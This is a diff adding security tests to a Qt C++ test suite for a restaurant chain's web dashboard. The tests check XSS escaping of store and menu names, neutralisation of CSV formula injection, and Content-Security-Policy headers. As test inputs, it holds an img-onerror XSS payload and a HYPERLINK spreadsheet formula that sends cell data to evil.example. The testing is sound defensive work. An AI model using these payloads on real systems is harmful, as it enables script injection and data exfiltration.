@@ -7,9 +7,11 @@
 #include "centralprocess.h"
 #include "edgeprocess.h"
 #include "httpclient.h"
+#include "testsupport.h"
 
 #include <QDir>
 #include <QJsonArray>
+#include <QJsonDocument>
 #include <QTest>
 #include <QUuid>
 
@@ -29,6 +31,9 @@ private slots:
     void newItemWithPictureReachesTheEdge();
     void liveFeedShowsANewOrder();
     void languageSwitchesToEnglish();
+    void hostileNamesShowAsText();
+    void csvExportNeutralisesFormulas();
+    void policyForbidsFormsElsewhereAndBaseUrls();
 
 private:
     void placeOrder(int table, qint64 item, int quantity);
@@ -223,6 +228,90 @@ void TestDashboard::languageSwitchesToEnglish()
     QVERIFY(m_browser.waitFor(u"document.querySelector('nav a').textContent === 'Overview'"_s));
     QVERIFY(m_browser.waitFor(u"document.querySelector('.store-row')"_s));
     shoot(u"dashboard-overview-en"_s);
+}
+
+void TestDashboard::hostileNamesShowAsText()
+{
+    // A store and a menu item named with markup (what a rogue admin, a store or a leaked
+    // key could choose) show as the text they are, on every page that lists them.
+    const QString hostile = uR"(<img src=x onerror="window.__xss=1">가게 <b>bold</b>)"_s;
+    HttpClient hq(m_central->port());
+    const QString token = hq.post(u"/api/v1/auth/login"_s, {{u"username"_s, u"hq"_s}, {u"password"_s, u"hq"_s}})
+                                  .json().value(u"token"_s).toString();
+    QVERIFY(!token.isEmpty());
+    VERIFY_STATUS(hq.post(u"/api/v1/stores"_s, {{u"name"_s, hostile}}, token), 201);
+    const QJsonArray categories = hq.get(u"/api/v1/stores/1/menu"_s, token).json().value(u"categories"_s).toArray();
+    QVERIFY(!categories.isEmpty());
+    VERIFY_STATUS(hq.post(u"/api/v1/stores/1/menu/items?publish=later"_s,
+                          {{u"category_id"_s, categories.first().toObject().value(u"id"_s)},
+                           {u"name"_s, hostile}, {u"price"_s, 1000}},
+                          token),
+                  201);
+
+    // The name as a JavaScript string literal (a JSON array is one).
+    const QString literal = u"(%1[0])"_s.arg(QString::fromUtf8(QJsonDocument(QJsonArray{hostile}).toJson(QJsonDocument::Compact)));
+    const QString noMarkup = u"document.querySelectorAll('#app img[onerror], #app b, #app [onerror]').length === 0"_s;
+    m_browser.evaluate(u"location.hash = '#/overview?' + Date.now(); true"_s);
+    QVERIFY2(m_browser.waitFor(u"[...document.querySelectorAll('.store-row a')].some(a => a.textContent === %1)"_s.arg(literal)),
+             qPrintable(m_browser.evaluate(u"document.querySelector('#stores') && document.querySelector('#stores').innerHTML"_s)
+                                .toString()));
+    QVERIFY(m_browser.evaluate(noMarkup).toBool());
+
+    m_browser.evaluate(u"location.hash = '#/menus/1'; true"_s);
+    QVERIFY(m_browser.waitFor(
+            u"[...document.querySelectorAll('.item-field[data-field=name]')].some(i => i.value === %1)"_s.arg(literal)));
+    QVERIFY(m_browser.evaluate(u"[...document.querySelectorAll('#menu-store option')].some(o => o.textContent === %1)"_s
+                                       .arg(literal)).toBool());
+    QVERIFY(m_browser.evaluate(noMarkup).toBool());
+
+    m_browser.evaluate(u"location.hash = '#/fleet'; true"_s);
+    QVERIFY(m_browser.waitFor(u"[...document.querySelectorAll('.tile-name')].some(n => n.textContent === %1)"_s.arg(literal)));
+    QVERIFY(m_browser.evaluate(noMarkup).toBool());
+    shoot(u"dashboard-hostile-names"_s);
+    QVERIFY(m_browser.evaluate(u"window.__xss === undefined"_s).toBool());
+}
+
+void TestDashboard::csvExportNeutralisesFormulas()
+{
+    // The CSV the reports page downloads: cells a spreadsheet would run as formulas get a
+    // leading apostrophe (OWASP), numbers and ordinary text stay as they are.
+    m_browser.evaluate(u"location.hash = '#/reports'; true"_s);
+    QVERIFY(m_browser.waitFor(u"typeof toCsv === 'function' && document.querySelector('#report-table')"_s));
+    const QString csv = m_browser.evaluate(uR"(toCsv([
+        { key: '=HYPERLINK("http://evil.example/?"&A1)', orders: 1, total: 1000 },
+        { key: '+1+2', orders: 2, total: -5 },
+        { key: '-2+3', orders: 3, total: 0 },
+        { key: '@SUM(A1:A2)', orders: 4, total: 0 },
+        { key: '\tTAB', orders: 5, total: 0 },
+        { key: '\rCR', orders: 6, total: 0 },
+        { key: '김치찌개 "special"', orders: 7, total: 9000 }]))"_s).toString();
+    const QStringList lines = csv.split(u'\n');
+    QCOMPARE(lines.size(), 8);
+    QCOMPARE(lines.at(0), uR"("key","orders","total")"_s);
+    QCOMPARE(lines.at(1), uR"csv("'=HYPERLINK(""http://evil.example/?""&A1)","1","1000")csv"_s);
+    QCOMPARE(lines.at(2), uR"("'+1+2","2","-5")"_s);
+    QCOMPARE(lines.at(3), uR"("'-2+3","3","0")"_s);
+    QCOMPARE(lines.at(4), uR"csv("'@SUM(A1:A2)","4","0")csv"_s);
+    QCOMPARE(lines.at(5), u"\"'\tTAB\",\"5\",\"0\""_s);
+    QCOMPARE(lines.at(6), u"\"'\rCR\",\"6\",\"0\""_s);
+    QCOMPARE(lines.at(7), uR"("김치찌개 ""special""","7","9000")"_s);
+}
+
+void TestDashboard::policyForbidsFormsElsewhereAndBaseUrls()
+{
+    HttpClient http(m_central->port());
+    for (const QString &path : {u"/"_s, u"/dashboard/app.js"_s}) {
+        const HttpResult page = http.get(path);
+        VERIFY_STATUS(page, 200);
+        const QByteArray csp = page.header("Content-Security-Policy");
+        QVERIFY2(csp.contains("form-action 'self'") && csp.contains("base-uri 'none'")
+                         && csp.contains("default-src 'self'") && !csp.contains("unsafe-inline"),
+                 csp.constData());
+    }
+    // The page itself opens its live feed without a token in the URL.
+    const HttpResult app = http.get(u"/dashboard/app.js"_s);
+    QVERIFY(!app.body.contains("access_token"));
+    QVERIFY(app.body.contains("/api/v1/feed/stream-ticket"));
 }
 
 QTEST_GUILESS_MAIN(TestDashboard)
